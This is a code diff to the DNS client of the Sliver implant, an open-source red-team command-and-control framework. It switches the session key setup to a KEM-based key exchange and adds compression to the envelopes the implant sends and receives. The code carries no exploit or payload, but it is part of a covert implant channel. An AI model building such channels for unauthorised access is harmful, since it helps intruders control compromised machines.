@@ -68,6 +68,7 @@ import (
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	"github.com/bishopfox/sliver/implant/sliver/cryptography"
 	"github.com/bishopfox/sliver/implant/sliver/encoders"
 	"github.com/bishopfox/sliver/protobuf/dnspb"
@@ -320,14 +321,14 @@ func (s *SliverDNSClient) SessionInit() error {
 
 	// Key agreement with server
 	sKey := cryptography.RandomSymmetricKey()
-	s.cipherCtx = cryptography.NewCipherContext(sKey)
-	initData, err := cryptography.AgeKeyExToServer(sKey[:])
+	initData, kemSharedKey, err := cryptography.KeyExToServer(sKey[:])
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("[dns] failed to encrypt init msg %v", err)
 		// {{end}}
 		return err
 	}
+	s.cipherCtx = cryptography.NewCipherContext(cryptography.SessionKey(sKey, kemSharedKey))
 	resolver, meta := s.randomResolver()
 	var encoder encoders.Encoder
 	if meta.EnableBase58 {
@@ -439,7 +440,7 @@ func (s *SliverDNSClient) WriteEnvelope(envelope *pb.Envelope) error {
 	log.Printf("[dns] write envelope ...")
 	// {{end}}
 
-	envelopeData, err := proto.Marshal(envelope)
+	envelopeData, err := proto.Marshal(compression.Compress(envelope))
 	if err != nil {
 		return err
 	}
@@ -545,6 +546,10 @@ func (s *SliverDNSClient) ReadEnvelope() (*pb.Envelope, error) {
 
 	envelope := &pb.Envelope{}
 	err = proto.Unmarshal(plaintext, envelope)
+	if err != nil {
+		return nil, err
+	}
+	err = compression.Decompress(envelope)
 	return envelope, err
 }
 